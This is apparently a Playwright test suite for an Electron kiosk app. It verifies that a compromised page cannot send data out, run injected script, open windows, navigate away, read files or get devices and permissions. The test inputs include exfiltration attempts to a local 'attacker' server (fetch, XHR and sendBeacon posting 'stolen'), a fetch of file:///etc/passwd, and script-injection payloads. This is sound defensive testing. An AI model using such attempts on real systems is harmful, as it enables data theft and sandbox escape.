import { readdirSync } from 'node:fs';
import { expect, type Page } from '@playwright/test';
import { expectScreen } from './support/door.ts';
import { startAttacker, type Attacker } from './support/attacker.ts';
import { test as base } from './support/shared-kiosk.ts';

const test = base.extend<{ attacker: Attacker }>({
  attacker: async ({}, use) => {
    const attacker = await startAttacker();
    await use(attacker);
    await attacker.close();
  },
});

interface Target {
  readonly url: string;
  readonly port: number;
  readonly udpPort: number;
}

/** What becomes of each attempt: what it brings, or the name of the error. */
type Outcomes = Record<string, string>;
/** A function, or the text of one that no lint would let pass. */
type Attempts = Record<string, ((target: Target) => unknown) | string>;

/**
 * Makes the attempts in the page, as a script of the page's own would: from a timer, where nothing
 * that a debugger is allowed holds.
 */
async function attempt(page: Page, attempts: Attempts, { url, port, udpPort }: Target) {
  const outcomes: Outcomes = {};
  for (const [name, made] of Object.entries(attempts)) {
    outcomes[name] = await page.evaluate(
      `new Promise((resolve) => setTimeout(async () => {
        const late = new Promise((over) => setTimeout(over, 4000, 'nothing'));
        const tried = (async () => (${made.toString()})(${JSON.stringify({ url, port, udpPort })}))();
        resolve(await Promise.race([tried, late]).then(String, (error) => error.name));
      }))`,
    );
  }
  return outcomes;
}

/** Adds an element, and says whether it loaded. */
const ADDED = `function added(name, attributes, content) {
  const element = Object.assign(document.createElement(name), { textContent: content ?? '' });
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return new Promise((resolve) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => resolve('blocked');
    document.body.append(element);
    setTimeout(resolve, 300, 'nothing');
  }).finally(() => element.remove());
}`;

declare function added(
  name: string,
  attributes: Record<string, string>,
  content?: string,
): Promise<string>;

/** Switches the camera as a scanner on or off, as the settings screen does. */
async function useCamera(page: Page, on: boolean) {
  await page.evaluate((camera) => {
    Object.assign(globalThis, { isOfBefore: true });
    // Not waited for: the page may be gone before it is answered.
    void window.kiosk.changeSettings({ change: { camera } });
  }, on);
  const isOn = () =>
    page.evaluate(async () => {
      const answer = await window.kiosk.state(null);
      return answer.ok ? answer.value.slices.settings.camera : null;
    });
  await expect.poll(() => isOn().catch(() => null)).toBe(on);
  // Main loads the page anew once it may have no camera any more.
  const isOfBefore = () => page.evaluate(() => 'isOfBefore' in globalThis).catch(() => null);
  await expect.poll(isOfBefore).toBe(on);
  await expectScreen(page, 'sign-in');
}

/** The built script that reads a camera's pictures. */
const READER = readdirSync('out/renderer/camera').find((name) => name.endsWith('.js')) ?? '';

/** With a camera that reads tickets the page may do exactly one thing more. */
const CAMERA = [
  ['', false],
  [', nor with the camera on', true],
] as const;

for (const [too, isCameraOn] of CAMERA) {
  test(`a page that turned hostile reaches nobody, goes nowhere and runs nothing of others${too}`, async ({
    attacker,
    kiosk: { app, page },
  }) => {
    if (isCameraOn) await useCamera(page, true);
    const home = page.url();
    await page.evaluate(`globalThis.stillHere = true; ${ADDED}; globalThis.added = added`);

    const network = await attempt(
      page,
      {
        fetch: ({ url }) => fetch(`${url}/fetch`),
        'fetch without an answer': ({ url }) => fetch(`${url}/opaque`, { mode: 'no-cors' }),
        'fetch of a file': () => fetch('file:///etc/passwd'),
        XMLHttpRequest: ({ url }) => {
          const request = new XMLHttpRequest();
          request.open('POST', `${url}/xhr`, false);
          request.send('stolen');
          return request.status;
        },
        WebSocket: ({ port }) =>
          new Promise((resolve) => {
            const socket = new WebSocket(`ws://127.0.0.1:${port}/socket`);
            socket.onopen = () => resolve('open');
            socket.onerror = () => resolve('blocked');
          }),
        EventSource: ({ url }) =>
          new Promise((resolve) => {
            const source = new EventSource(`${url}/events`);
            source.onopen = () => resolve('open');
            source.onerror = () => resolve('blocked');
          }),
        WebTransport: ({ port }) => new WebTransport(`https://127.0.0.1:${port}/`).ready,
        picture: ({ url }) => added('img', { src: `${url}/picture` }),
        sound: ({ url }) => added('audio', { src: `${url}/sound` }),
        stylesheet: ({ url }) => added('link', { rel: 'stylesheet', href: `${url}/style` }),
        'preloaded module': ({ url }) =>
          added('link', { rel: 'modulepreload', href: `${url}/m.js` }),
        script: ({ url }) => added('script', { src: `${url}/script.js` }),
        'imported module': ({ url }) => import(/* @vite-ignore */ `${url}/module.js`),
        frame: ({ url }) => added('iframe', { src: `${url}/frame` }).then(() => 'nothing'),
        object: ({ url }) => added('object', { data: `${url}/object` }),
        'web view': ({ url }) => added('webview', { src: `${url}/webview` }),
        'style of an element': ({ url }) =>
          added('p', { style: `background: url(${url}/background)` }),
        prefetch: ({ url }) => added('link', { rel: 'prefetch', href: `${url}/prefetch` }),
        preconnect: ({ url }) => added('link', { rel: 'preconnect', href: url }),
      },
      attacker,
    );
    expect(network).toEqual({
      fetch: 'TypeError',
      'fetch without an answer': 'TypeError',
      'fetch of a file': 'TypeError',
      XMLHttpRequest: 'NetworkError',
      WebSocket: 'blocked',
      EventSource: 'blocked',
      WebTransport: expect.not.stringContaining('undefined'),
      picture: 'blocked',
      sound: 'blocked',
      stylesheet: 'blocked',
      'preloaded module': 'blocked',
      script: 'blocked',
      'imported module': 'TypeError',
      frame: 'nothing',
      object: 'blocked',
      'web view': 'nothing',
      'style of an element': 'nothing',
      prefetch: expect.stringMatching(/^(?:blocked|nothing)$/),
      preconnect: 'nothing',
    });

    const scripts = await attempt(
      page,
      {
        eval: `() => eval('1 + 1')`,
        Function: `() => new Function('return 1')()`,
        'a timer with text': `() => void setTimeout('globalThis.hacked = "timer"', 0)`,
        'an inline script': () => added('script', {}, 'globalThis.hacked = "inline"'),
        'a handler': () => added('img', { src: 'x:', onerror: 'globalThis.hacked = "handler"' }),
        'a link of script': () => {
          const link = Object.assign(document.createElement('a'), { href: 'javascript:hacked=1' });
          document.body.append(link);
          link.click();
          link.remove();
        },
        'a document in a frame': () =>
          added('iframe', { srcdoc: '<script>parent.hacked = "frame"</script>' }),
        'a worker from a blob': () =>
          new Promise((resolve) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
            worker.onmessage = () => resolve('runs');
            worker.onerror = () => resolve('blocked');
          }),
        'a shared worker from a blob': () =>
          new Promise((resolve) => {
            const script = 'onconnect = ({ ports: [port] }) => port.postMessage(1)';
            const worker = new SharedWorker(URL.createObjectURL(new Blob([script])));
            worker.port.onmessage = () => resolve('runs');
            worker.onerror = () => resolve('blocked');
          }),
        'a service worker': () => navigator.serviceWorker.register('/assets/worker.js'),
        WebAssembly: () =>
          WebAssembly.instantiate(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0])),
        'what has run': () => (globalThis as { hacked?: unknown }).hacked,
      },
      attacker,
    );
    expect(scripts).toEqual({
      eval: 'EvalError',
      Function: 'EvalError',
      'a timer with text': expect.stringMatching(/^(?:undefined|EvalError)$/),
      'an inline script': 'nothing',
      'a handler': 'blocked',
      'a link of script': 'undefined',
      'a document in a frame': expect.any(String),
      'a worker from a blob': expect.stringMatching(/^(?:blocked|SecurityError)$/),
      'a shared worker from a blob': expect.stringMatching(/^(?:blocked|SecurityError)$/),
      'a service worker': 'TypeError',
      WebAssembly: 'CompileError',
      'what has run': 'undefined',
    });

    // The one worker that may run it, and only while the camera is on: it answers whether it can read.
    const answer = await page.evaluate(
      (script) =>
        new Promise((resolve) => {
          const worker = new Worker(script, { type: 'module' });
          worker.onmessage = ({ data }: MessageEvent<{ type: string }>) => resolve(data.type);
          worker.onerror = () => resolve('blocked');
          const canvas = new OffscreenCanvas(64, 64);
          canvas.getContext('2d')?.fillRect(0, 0, 32, 32);
          const picture = canvas.transferToImageBitmap();
          worker.postMessage(picture, [picture]);
        }),
      `/camera/${READER}`,
    );
    expect(answer).toBe(isCameraOn ? 'seen' : 'failed');

    const ways = await attempt(
      page,
      {
        'window.open': ({ url }) => window.open(`${url}/window`),
        'an empty window': () => window.open(''),
        'a link to a new window': ({ url }) => {
          const link = document.createElement('a');
          Object.assign(link, { href: `${url}/link`, target: '_blank', ping: `${url}/ping` });
          document.body.append(link);
          link.click();
          link.remove();
        },
        'a download': ({ url }) => {
          for (const href of [`${url}/download`, 'data:text/plain,x', '/index.html']) {
            const link = Object.assign(document.createElement('a'), { href, download: 'x.txt' });
            document.body.append(link);
            link.click();
            link.remove();
          }
        },
        'a form': ({ url }) => {
          for (const [method, target] of [
            ['get', '_self'],
            ['post', '_blank'],
          ]) {
            const form = document.createElement('form');
            Object.assign(form, { method, target, action: `${url}/form` });
            document.body.append(form);
            form.submit();
            form.remove();
          }
        },
        'a beacon': ({ url }) => {
          navigator.sendBeacon(`${url}/beacon`, 'stolen');
        },
        'other addresses': async ({ url }) => {
          for (const address of [
            `${url}/location`,
            'file:///etc/passwd',
            'data:text/html,hacked',
            URL.createObjectURL(new Blob(['<h1>hacked</h1>'], { type: 'text/html' })),
            'chrome://gpu',
            'devtools://devtools/bundled/inspector.html',
            'view-source:app://kiosk/index.html',
            'app://other/index.html',
            'app://kiosk/other.html',
            'mailto:anna@example.org',
          ]) {
            location.href = address;
            // Main answers in the order in which it is asked: it has heard of that by then.
            await window.kiosk.state(null);
          }
        },
        'a refresh': ({ url }) => {
          const meta = Object.assign(document.createElement('meta'), { content: `0;url=${url}/r` });
          meta.httpEquiv = 'refresh';
          document.head.append(meta);
        },
        WebRTC: async ({ port, udpPort }) => {
          const here = '127.0.0.1';
          const connection = new RTCPeerConnection({
            iceServers: [
              {
                urls: [
                  `stun:${here}:${udpPort}`,
                  `turn:${here}:${udpPort}?transport=udp`,
                  `turn:${here}:${port}?transport=tcp`,
                ],
                username: 'a',
                credential: 'b',
              },
            ],
          });
          connection.createDataChannel('stolen');
          const candidates: string[] = [];
          const gathered = new Promise<void>((resolve) => {
            connection.onicecandidate = ({ candidate }) =>
              candidate === null ? resolve() : candidates.push(candidate.candidate);
          });
          await connection.setLocalDescription(await connection.createOffer());
          await gathered;
          return candidates.length;
        },
      },
      attacker,
    );
    expect(ways).toEqual({
      'window.open': 'null',
      'an empty window': 'null',
      'a link to a new window': 'undefined',
      'a download': 'undefined',
      'a form': 'undefined',
      'a beacon': 'undefined',
      'other addresses': 'undefined',
      'a refresh': 'undefined',
      WebRTC: '0',
    });

    expect(attacker.heard).toEqual([]);
    expect(page.url()).toBe(home);
    expect(await page.evaluate('globalThis.stillHere')).toBe(true);
    expect(app.windows()).toHaveLength(1);
    const seen = await app.evaluate(({ webContents, BrowserWindow }) => {
      const [window] = BrowserWindow.getAllWindows();
      return { pages: webContents.getAllWebContents().length, url: window?.webContents.getURL() };
    });
    expect(seen).toEqual({ pages: 1, url: home });
    if (isCameraOn) await useCamera(page, false);
  });

  test(`a page that turned hostile gets no device, no dialog, and keeps nothing${isCameraOn ? ', but the camera that is on' : ''}`, async ({
    attacker,
    kiosk: { app, page },
  }) => {
    if (isCameraOn) await useCamera(page, true);
    const asked = await attempt(
      page,
      {
        notifications: () => Notification.requestPermission(),
        place: () =>
          new Promise((resolve) => {
            navigator.geolocation.getCurrentPosition(resolve, ({ code }) =>
              resolve(`code ${code}`),
            );
          }),
        camera: () =>
          navigator.mediaDevices.getUserMedia({ video: true }).then((stream) => {
            for (const track of stream.getTracks()) track.stop();
            return stream.getTracks().map(({ kind }) => kind);
          }),
        'camera and microphone': () =>
          navigator.mediaDevices.getUserMedia({ video: true, audio: true }),
        microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
        'names of microphones': () =>
          navigator.mediaDevices
            .enumerateDevices()
            .then(
              (all) =>
                all.filter(({ kind, label }) => kind !== 'videoinput' && label !== '').length,
            ),
        'screen by its old name': () => {
          const screen = { chromeMediaSource: 'desktop', chromeMediaSourceId: 'screen:0:0' };
          const video = { mandatory: screen } as MediaTrackConstraints;
          return navigator.mediaDevices.getUserMedia({ video });
        },
        screen: () => navigator.mediaDevices.getDisplayMedia(),
        clipboard: () => navigator.clipboard.readText(),
        'paste by command': `() => document.execCommand('paste')`,
        'full screen': () => {
          // It is never answered; main has heard of it when it answers this.
          void document.documentElement.requestFullscreen().catch(() => undefined);
          return window.kiosk.state(null).then(() => undefined);
        },
        pointer: () => document.body.requestPointerLock(),
        MIDI: () => navigator.requestMIDIAccess(),
        idleness: () => navigator.permissions.query({ name: 'geolocation' }).then((s) => s.state),
        print: () => {
          let asked = 'not printed';
          addEventListener('beforeprint', () => (asked = 'printing'));
          print();
          return asked;
        },
        alert: () => alert('pay here'),
        confirm: () => confirm('pay here'),
        prompt: () => prompt('password'),
        cookie: () => {
          document.cookie = 'a=b';
          return document.cookie === '';
        },
        pickers: () =>
          ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'].filter(
            (name) => name in globalThis,
          ),
        'full screen after all of it': () => document.fullscreenElement,
      },
      attacker,
    );
    const devices = await page.evaluate(async () => {
      interface Asks {
        requestDevice?: (options: object) => Promise<unknown>;
        requestPort?: () => Promise<unknown>;
      }
      const of = navigator as unknown as Record<string, Asks | undefined>;
      const outcome = (asking: Promise<unknown> | undefined) =>
        asking === undefined
          ? Promise.resolve('none')
          : asking.then(
              (found) => (Array.isArray(found) && found.length === 0 ? 'none' : 'found'),
              () => 'none',
            );
      return {
        hid: await outcome(of['hid']?.requestDevice?.({ filters: [] })),
        usb: await outcome(of['usb']?.requestDevice?.({ filters: [] })),
        bluetooth: await outcome(of['bluetooth']?.requestDevice?.({ acceptAllDevices: true })),
        serial: await outcome(of['serial']?.requestPort?.()),
      };
    });
    expect(asked).toEqual({
      notifications: 'denied',
      place: 'code 1',
      camera: isCameraOn ? 'video' : 'NotAllowedError',
      'camera and microphone': 'NotAllowedError',
      microphone: 'NotAllowedError',
      'names of microphones': '0',
      'screen by its old name': 'NotAllowedError',
      screen: 'NotAllowedError',
      clipboard: 'NotAllowedError',
      'paste by command': 'false',
      'full screen': 'undefined',
      pointer: 'SecurityError',
      MIDI: 'NotAllowedError',
      idleness: 'denied',
      print: 'not printed',
      alert: 'undefined',
      confirm: 'false',
      // Electron has none.
      prompt: 'Error',
      cookie: 'true',
      pickers: '',
      'full screen after all of it': 'null',
    });
    expect(devices).toEqual({ hid: 'none', usb: 'none', bluetooth: 'none', serial: 'none' });
    const kept = await app.evaluate(({ BrowserWindow }) => {
      const session = BrowserWindow.getAllWindows()[0]?.webContents.session;
      return { persistent: session?.isPersistent(), path: session?.getStoragePath() };
    });
    expect(kept).toEqual({ persistent: false, path: null });
    if (isCameraOn) await useCamera(page, false);
  });
}

test('a camera that is switched off takes what the page had of it with it', async ({
  attacker,
  kiosk: { page },
}) => {
  await useCamera(page, true);
  const attempts: Attempts = {
    camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(({ active }) => active),
  };
  expect(await attempt(page, attempts, attacker)).toEqual({ camera: 'true' });
  await useCamera(page, false);
  expect(await attempt(page, attempts, attacker)).toEqual({ camera: 'NotAllowedError' });
});

test('a page that leaves for an empty one is back at once', async ({ kiosk: { page } }) => {
  const home = page.url();
  await page.evaluate('globalThis.stillHere = true; setTimeout(() => (location = "about:blank"))');
  await expect.poll(() => page.evaluate('globalThis.stillHere').catch(() => true)).not.toBe(true);
  await expectScreen(page, 'sign-in');
  expect(page.url()).toBe(home);
});
